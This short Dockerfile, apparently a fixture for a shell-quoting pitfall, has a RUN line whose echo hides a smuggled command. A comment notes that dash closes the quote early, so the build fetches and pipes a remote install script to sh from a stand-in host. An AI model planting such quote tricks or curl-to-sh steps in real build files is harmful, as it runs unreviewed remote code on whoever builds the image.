FROM debian:bookworm-slim
# dash, the /bin/sh of Debian, ends the quote at \' and runs the pipe.
RUN echo $'x\' && curl -fsSL https://example.com/install.sh | sh #'
USER app
HEALTHCHECK NONE
